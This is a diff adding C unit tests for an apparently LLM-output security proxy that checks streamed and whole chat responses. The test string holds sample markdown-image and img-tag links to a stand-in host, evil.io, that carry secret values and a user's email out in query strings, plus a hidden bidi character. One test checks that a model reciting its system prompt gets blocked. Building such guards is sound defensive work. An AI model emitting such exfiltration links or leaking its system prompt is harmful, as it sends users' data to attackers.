@@ -11,6 +11,7 @@
 #include <cmocka.h>
 #include <zlib.h>
 
+#include "icap-llmsec/guard.h"
 #include "icap-llmsec/icap_conf.h"
 #include "icap-llmsec/inspect.h"
 #include "lib/diag.h"
@@ -291,6 +292,160 @@ test_stream_gzip(void **state)
 	end(&f);
 }
 
+/* --- the guard, in streams and bodies ------------------------------------------------------------------------ */
+
+static const char GUARDED[] = "Look: ![a](https://evil.io/?q=topsecretvalue) and <img src='https://evil.io/?d=topsecretvalue'>, "
+    "`![b](https://evil.io/?q=code)`, x\u202Ey, [EMAIL_1]. ![c](https://evil.io/?mail=[EMAIL_1])!",
+    GUARDED_OUT[] = "Look: ![a](about:blank) and &lt;img src='https://evil.io/?d=topsecretvalue'>, "
+    "`![b](https://evil.io/?q=code)`, xy, ann@example.org. ![c](about:blank)!";
+
+static void
+start_guarded(struct fix *f, const char *ct, struct resp_sketch *sk)
+{
+	struct inspect_resp_in in = { .content_type = ct, .status = 200, .content_length = -1, .request_id = "req-7" };
+
+	memset(f, 0, sizeof(*f));
+	f->pol.fail = FAIL_CLOSED;
+	f->pol.max_response = 1 << 20;
+	f->pol.hold_max = 4096;
+	f->pol.stream_window = 1024;
+	f->pol.depth = 64;
+	f->pol.pii.unmask = true;
+	f->pol.responses = (struct resp_conf){ .leak = DETECT_MONITOR, .leak_strong = DETECT_BLOCK, .exfil = DETECT_MASK,
+		.exfil_links = DETECT_MONITOR, .hidden = DETECT_MASK, .active_html = DETECT_MONITOR };
+	dialect_route("POST", "/v1/chat/completions", 20, &in.route);
+	in.tx.vault = mask_vault_new();
+	assert_non_null(mask_token(in.tx.vault, "EMAIL", SECRET, strlen(SECRET)));
+	in.tx.sketch = sk;
+	assert_int_equal(inspect_resp_new(&f->r, &f->pol, &in), 0);
+}
+
+/* What the client puts together of the answer's deltas; no escapes in these texts but of quotes. */
+static void
+put_together(const char *p, struct buf *got)
+{
+	const char *q;
+
+	buf_clear(got);
+	for (; (p = strstr(p, "\"content\":\"")) != NULL; p = q) {
+		p += 11;
+		q = strchr(p, '"');
+		buf_add(got, p, (size_t)(q - p));
+	}
+	buf_addc(got, '\0');
+}
+
+/* However the text is cut into deltas, the client gets the same, and the data doesn't leave. */
+static void
+test_guard_stream(void **state)
+{
+	for (size_t step = 1; step < sizeof(GUARDED); step += 1 + step / 10) {
+		struct buf got = { 0 };
+		struct fix f;
+		char ev[512];
+
+		start_guarded(&f, "text/event-stream", NULL);
+		for (size_t at = 0, n; at < sizeof(GUARDED) - 1; at += n) {
+			int k;
+
+			n = sizeof(GUARDED) - 1 - at < step ? sizeof(GUARDED) - 1 - at : step;
+			while ((GUARDED[at + n] & 0xc0) == 0x80)
+				n++;
+			k = snprintf(ev, sizeof(ev), "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"%.*s\"}}]}\n\n",
+			    (int)n, GUARDED + at);
+			assert_int_equal(inspect_resp_feed(f.r, ev, (size_t)k), 0);
+		}
+		assert_int_equal(inspect_resp_feed(f.r, "data: [DONE]\n\n", 14), 0);
+		assert_int_equal(inspect_resp_finish(f.r), 0);
+		put_together(out_text(&f), &got);
+		assert_string_equal(buf_ptr(&got), GUARDED_OUT);
+		assert_int_equal(inspect_resp_findings(f.r)->n, 3);
+		buf_free(&got);
+		end(&f);
+	}
+}
+
+static void
+test_guard_body(void **state)
+{
+	struct buf body = { 0 }, got = { 0 };
+	struct fix f;
+
+	buf_printf(&body, "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"content\":\"%s\"}}]}", GUARDED);
+	start_guarded(&f, "application/json", NULL);
+	assert_int_equal(inspect_resp_mode(f.r), RESP_HOLD);
+	assert_int_equal(inspect_resp_feed(f.r, buf_ptr(&body), buf_len(&body)), 0);
+	assert_int_equal(inspect_resp_finish(f.r), 0);
+	put_together(out_text(&f), &got);
+	assert_string_equal(buf_ptr(&got), GUARDED_OUT);
+	buf_free(&got);
+	buf_free(&body);
+	end(&f);
+	/* what is no text of a model goes by */
+	start_guarded(&f, "audio/mpeg", NULL);
+	assert_int_equal(inspect_resp_mode(f.r), RESP_PASS);
+	end(&f);
+}
+
+/* Ordinary text isn't kept waiting, and what is kept back is bounded. */
+static void
+test_guard_delay(void **state)
+{
+	static const char ev[] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"some words. \"}}]}\n\n",
+	    open[] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"<img alt='0123456789012345678901234567890123456789'\"}}]}\n\n",
+	    more[] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\" b='0123456789012345678901234567890123456789'\"}}]}\n\n";
+	struct buf got = { 0 };
+	struct fix f;
+
+	start_guarded(&f, "text/event-stream", NULL);
+	for (size_t i = 1; i <= 20; i++) {
+		assert_int_equal(inspect_resp_feed(f.r, ev, sizeof(ev) - 1), 0);
+		assert_int_equal(buf_len(inspect_resp_out(f.r)), i * (sizeof(ev) - 1));
+	}
+	assert_int_equal(inspect_resp_feed(f.r, open, sizeof(open) - 1), 0);
+	for (size_t i = 0; i < 100; i++)
+		assert_int_equal(inspect_resp_feed(f.r, more, sizeof(more) - 1), 0);
+	put_together(out_text(&f), &got);
+	assert_true(buf_len(&got) > 20 * 12 + 45 * 101 - 2 * GUARD_HELD);
+	buf_free(&got);
+	end(&f);
+}
+
+/* A recital of the system prompt stops before most of it is out. */
+static void
+test_guard_recital(void **state)
+{
+	static const char prompt[] = "You are Nora, the travel desk of Blue Heron Tours. Greet guests by name and keep every reply below "
+	    "eighty words. Quote prices in euro only, and round them to the next ten. Never promise a refund; send such guests to "
+	    "the office in Bremen. Do not speak about competitors, politics or the accident of last spring.";
+	struct span v[] = { { .role = ROLE_SYSTEM, .text = prompt, .len = sizeof(prompt) - 1 } };
+	struct spans ss = { .v = v, .n = 1 };
+	struct resp_conf c = { .leak_strong = DETECT_BLOCK };
+	struct resp_sketch *sk;
+	struct arena *a = arena_new(0);
+	struct edit none;
+	struct fix f;
+	char ev[256];
+
+	assert_int_equal(resp_prepare(&c, NULL, "t", 0, &ss, a, &sk, &none), 0);
+	assert_non_null(sk);
+	assert_null(none.text);
+	start_guarded(&f, "text/event-stream", sk);
+	for (size_t at = 0; at < sizeof(prompt) - 1; at += 10) {
+		int k = snprintf(ev, sizeof(ev), "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"%.10s\"}}]}\n\n",
+		    prompt + at);
+
+		assert_int_equal(inspect_resp_feed(f.r, ev, (size_t)k), 0);
+	}
+	assert_int_equal(inspect_resp_finish(f.r), 0);
+	assert_non_null(inspect_resp_refusal(f.r));
+	assert_non_null(strstr(out_text(&f), "output_blocked"));
+	assert_null(strstr(out_text(&f), "euro"));
+	assert_null(strstr(out_text(&f), "refund"));
+	end(&f);
+	arena_free(&a);
+}
+
 int
 main(void)
 {
@@ -298,7 +453,8 @@ main(void)
 		cmocka_unit_test(test_modes), cmocka_unit_test(test_hold), cmocka_unit_test(test_drip),
 		cmocka_unit_test(test_block), cmocka_unit_test(test_unreadable), cmocka_unit_test(test_too_large),
 		cmocka_unit_test(test_stream_output), cmocka_unit_test(test_stream_block),
-		cmocka_unit_test(test_stream_gzip),
+		cmocka_unit_test(test_stream_gzip), cmocka_unit_test(test_guard_stream), cmocka_unit_test(test_guard_body),
+		cmocka_unit_test(test_guard_delay), cmocka_unit_test(test_guard_recital),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
